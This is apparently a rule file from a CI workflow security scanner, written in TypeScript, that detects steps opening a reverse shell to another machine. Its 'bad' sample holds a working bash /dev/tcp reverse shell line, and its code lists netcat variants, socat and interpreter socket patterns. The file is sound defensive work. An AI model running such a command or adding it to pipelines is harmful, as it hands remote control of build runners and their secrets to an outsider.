import { attack, cwe } from '../../core/references.ts'
import { defineRule, type Located } from '../../core/rule.ts'
import { type Invocation, invocationOf, isShell } from '../../documents/shell-commands.ts'
import type { ShellCommand } from '../../documents/shell-model.ts'
import { stepInvocations } from '../../documents/workflow-shell.ts'

export default defineRule({
  id: 'workflow/reverse-shell',
  severity: 'high',
  threat: 'access',
  summary: 'A step gives a shell to another machine',
  why: 'Whoever is at the other end types commands on the runner, with the secrets and the token of the job. No build needs that.',
  instead: 'Remove the step, find out who added it, and revoke the secrets that the workflow had.',
  references: [attack('T1059.004'), attack('T1071'), cwe(506)],
  peers: ['checkov:CKV_GHA_4'],
  bad: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
`,
  good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: until (echo > /dev/tcp/localhost/5432); do sleep 1; done
`,
  on: 'step',
  *check(step) {
    const all = stepInvocations(step)
    const readsNetwork = new Set(all.filter(({ command }) => command.pipedFrom.some(isNetcat)).map(({ command }) => command))
    for (const invocation of all) {
      const at = shellOverNetwork(invocation, readsNetwork)
      if (at) yield { at, message: `"${invocation.name}" connects a shell with another machine` }
    }
  },
})

const nameOf = (command: ShellCommand) => invocationOf(command)?.name ?? ''
const netcats: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional'])
const isNetcat = (command: ShellCommand) => netcats.has(nameOf(command))

function shellOverNetwork({ name, args, command }: Invocation, readsNetwork: ReadonlySet<ShellCommand>): Located | null {
  const socket = command.redirections.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.value))
  const opensShell = isShell(name) || name === 'exec'
  if (socket && isShell(name)) return command
  if (netcats.has(name)) {
    const executes = args.some(({ value }) => /^(?:-[a-z]*[ec]|--exec|--sh-exec)$/.test(value))
    const shell = command.pipedFrom.some((from) => isShell(nameOf(from)) && invocationOf(from)?.args.some(({ value }) => value === '-i'))
    return executes || shell ? command : null
  }
  if (name === 'socat') return args.some(({ value }) => /^(?:exec|system):.*sh\b/i.test(value)) ? command : null
  if (isInterpreter(name)) return args.find(({ value }) => socketProgram(value)) ?? null
  return opensShell && readsNetwork.has(command) ? command : null
}

const isInterpreter = (name: string) =>
  ['perl', 'ruby', 'php', 'node'].includes(name) || (name.startsWith('python') && /^python[\d.]*$/.test(name))

/** One line that opens a connection, and starts a shell on it. */
const socketProgram = (text: string) =>
  /\b(?:socket|TCPSocket|fsockopen|net\.connect|net\.Socket)\b/i.test(text) &&
  /\b(?:ba|z|da)?sh\b|pty\.spawn/.test(text) &&
  /dup2|exec|spawn|popen/i.test(text)
